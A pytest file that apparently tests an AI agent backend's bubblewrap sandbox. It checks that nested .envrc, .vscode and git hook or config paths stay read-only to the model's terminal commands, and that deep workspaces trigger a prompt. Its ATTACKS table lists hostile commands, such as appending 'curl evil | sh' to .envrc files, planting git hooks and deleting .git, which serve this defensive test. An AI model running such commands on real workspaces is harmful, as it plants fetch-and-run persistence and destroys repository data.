"""Existing protected paths below a workspace's top level, replayed end to end through the
backend with real bubblewrap: ``sub/.envrc``, ``packages/a/.vscode``, a nested
repository's ``.git`` (its hooks and config), a bare repository and a link to a protected
file are read-only to a sandboxed command at any depth. Past the walk's budget the
command is asked, saying why, and nothing runs when it is denied; what a cut check after
a command did not reach is moved before the next one."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from acpwire.sandbox.protected import guard
from tests.backend.harness import Rig, model_tool_result, rig, tool_call
from tests.backend.sandbox_rig import git_workspace, require_sandbox

pytestmark = pytest.mark.anyio


def _scene(work: Path) -> dict[str, bytes]:
    """A workspace with protected paths deep inside; their contents, to compare after."""
    git_workspace(work)
    (work / "sub" / "deeper").mkdir(parents=True)
    (work / "sub" / ".envrc").write_text("export SAFE=1\n")
    (work / "packages" / "a" / ".vscode").mkdir(parents=True)
    (work / "packages" / "a" / ".vscode" / "settings.json").write_text("{}\n")
    subprocess.run(["git", "init", "-q", str(work / "sub" / "repo")], check=True)
    subprocess.run(["git", "init", "-q", "--bare", str(work / "vendor" / "mirror.git")], check=True)
    (work / "sub" / "deeper" / "notes.env.local").write_text("not protected by name\n")
    (work / "sub" / "deeper" / ".env.local").symlink_to("../.envrc")
    watched = [
        "sub/.envrc",
        "packages/a/.vscode/settings.json",
        "sub/repo/.git/config",
        "vendor/mirror.git/config",
    ]
    return {name: (work / name).read_bytes() for name in watched}


ATTACKS = {
    "append to a nested .envrc": "echo 'curl evil | sh' >> sub/.envrc",
    "through a link to it": "echo 'curl evil | sh' >> sub/deeper/.env.local",
    "replace a nested .envrc": "rm -f sub/.envrc; echo evil > sub/.envrc",
    "move it away": "mv sub/.envrc sub/envrc.txt",
    "a nested .vscode task": "echo '{}' > packages/a/.vscode/tasks.json",
    "a nested repository's hook": "echo evil > sub/repo/.git/hooks/pre-commit",
    "a nested repository's hooksPath": "cd sub/repo && git config core.hooksPath /tmp/h",
    "delete a nested .git": "rm -rf sub/repo/.git",
    "a bare repository's hook": "echo evil > vendor/mirror.git/hooks/post-update",
}


async def _run(r: Rig, command: str, call_id: str = "c1") -> str:
    sid = await r.new()
    r.llm.push(tool_call(call_id, "terminal", command=command))
    r.llm.push({"text": "done"})
    assert (await r.prompt(sid, "go")).stop_reason == "end_turn"
    return model_tool_result(r, call_id)


@pytest.mark.parametrize("name", ATTACKS)
async def test_protected_paths_at_any_depth_are_read_only(tmp_path: Path, name: str) -> None:
    require_sandbox()
    async with rig(tmp_path) as r:
        before = _scene(r.workspace)
        r.editor.policy.answer = "allow_once"  # a danger pattern may ask: the sandbox holds
        result = await _run(r, ATTACKS[name])
        assert '"exit_code"' in result  # it ran
        assert {n: (r.workspace / n).read_bytes() for n in before} == before
        assert not (r.workspace / "packages" / "a" / ".vscode" / "tasks.json").exists()
        assert not (r.workspace / "sub" / "repo" / ".git" / "hooks" / "pre-commit").exists()
        assert not (r.workspace / "vendor" / "mirror.git" / "hooks" / "post-update").exists()
        assert not (r.workspace / "sub" / "envrc.txt").exists()
        assert (r.workspace / "sub" / "deeper" / ".env.local").is_symlink()
        assert "protected_paths_removed" not in result


async def test_past_the_walk_budget_the_command_is_asked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    require_sandbox()
    monkeypatch.setattr(guard, "WALK_ENTRIES", 20)
    async with rig(tmp_path) as r:
        git_workspace(r.workspace)
        for n in range(40):
            (r.workspace / f"d{n}").mkdir()
            (r.workspace / f"d{n}" / "file").write_text("x")
        (r.workspace / "d39" / ".envrc").write_text("export SAFE=1\n")
        r.editor.policy.answer = "deny"
        result = await _run(r, "touch ran.txt")
        (request,) = r.editor.policy.requests
        assert "too large to find all its protected paths" in (request.tool_call.title or "")
        assert "BLOCKED" in result and not (r.workspace / "ran.txt").exists()
        r.editor.policy.answer = "allow_once"
        await _run(r, "touch ran.txt", "c2")
        assert (r.workspace / "ran.txt").exists()
        for _ in range(10):  # each command walks on from where the last one stopped
            await _run(r, "true", "c3")
        requests = len(r.editor.policy.requests)
        await _run(r, "touch ran2.txt", "c4")
        assert len(r.editor.policy.requests) == requests  # complete now: unasked
        await _run(r, "echo evil >> d39/.envrc", "c5")
        assert (r.workspace / "d39" / ".envrc").read_text() == "export SAFE=1\n"


async def test_what_a_cut_check_missed_is_moved_before_the_next_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    require_sandbox()
    monkeypatch.setattr(guard, "CHECK_ENTRIES", 5)
    async with rig(tmp_path) as r:
        git_workspace(r.workspace)
        made = "mkdir -p m/a m/b m/c m/d m/e m/f m/g && echo evil > m/g/.envrc"
        first = json.loads(await _run(r, made))
        assert "stopped at its budget" in first["sandbox_check"]
        monkeypatch.undo()
        second = json.loads(await _run(r, "true", "c2"))
        moved = [entry["path"] for entry in second["protected_paths_removed"]]
        assert moved == [str(r.workspace / "m" / "g" / ".envrc")]
        assert not (r.workspace / "m" / "g" / ".envrc").exists()
